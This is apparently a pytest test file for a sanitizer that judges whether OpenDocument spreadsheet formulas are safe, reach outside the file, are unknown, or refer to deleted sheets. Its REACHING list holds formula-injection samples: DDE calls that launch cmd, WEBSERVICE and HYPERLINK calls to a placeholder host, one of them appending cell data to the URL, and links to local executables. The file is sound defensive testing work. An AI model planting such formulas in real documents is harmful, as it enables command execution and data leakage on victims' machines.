"""Which formulas of OpenDocument spreadsheets go on."""

import pytest

from sanitizers.formats.odf.formulas import Verdict, judge

KEPT = [
    "of:=SUM([.A1:.B2];[$Sheet2.$A$1])",
    "of:=[$'シート 1'.A1]+1",
    'of:=IF([.A1]="";"";TEXT([.A1];"ggge年m月d日"))',
    'of:=HYPERLINK("https://www.city.example.jp/";"市")',
    "of:={1;2|3;4}",
    "of:=SUM([.A1:.#REF!])",
    "oooc:=SUM([.A1:.A5])",
    "of:=売上*2",
    'of:="DDE("',
    "of:=COM.MICROSOFT.CONCAT([.A1])",
    'of:cell-content-is-in-list("a";"b")',
    "is-true-formula([.A1]-1>[.B1])",
    'of:=INDIRECT("A"&[.B1])',
]
REACHING = [
    'of:=DDE("cmd";"/c calc";"x")',
    'of:=1-dde ("cmd";"x";"y")',
    'of:=WEBSERVICE("https://x.example/")',
    "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
    "of:=HYPERLINK([.A1])",
    'of:=HYPERLINK("file:///c:/x.exe")',
    'of:=HYPERLINK("https://x.example/?"&[.A1])',
    'of:=HYPERLINK(" https://x.example/")',
    "of:=['file:///c:/x.ods'#$Sheet1.A1]",
    "of:='file:///c:/x.ods'#$Sheet1.A1",
    "of:=INDIRECT(\"'file:///c:/x.ods'#$A.A1\")",
    "msoxl:=cmd|'/c calc'!A0",
    "msoxl:=[1]Sheet1!A1",
    "of:=x-DDE(1)",
]


@pytest.mark.parametrize("formula", KEPT)
def test_kept(formula: str) -> None:
    assert judge(formula) is Verdict.KEPT


@pytest.mark.parametrize("formula", REACHING)
def test_reaching_out(formula: str) -> None:
    assert judge(formula) is Verdict.REACHES_OUT


@pytest.mark.parametrize("formula", ["of:=MYMACRO([.A1])", "of:=\x07", "of:=SUM(" + "1;" * 20_000])
def test_unknown(formula: str) -> None:
    assert judge(formula) is Verdict.UNKNOWN


def test_about_a_sheet_that_is_gone() -> None:
    left = frozenset({"秘密", "it's"})
    for formula in ("of:=[$秘密.A1]", "of:=SUM([表1.A1:秘密.B2])", "of:=[$'it''s'.A1]"):
        assert judge(formula, left) is Verdict.LEFT_SHEET, formula
    assert judge("of:=[$表1.A1]", left) is Verdict.KEPT
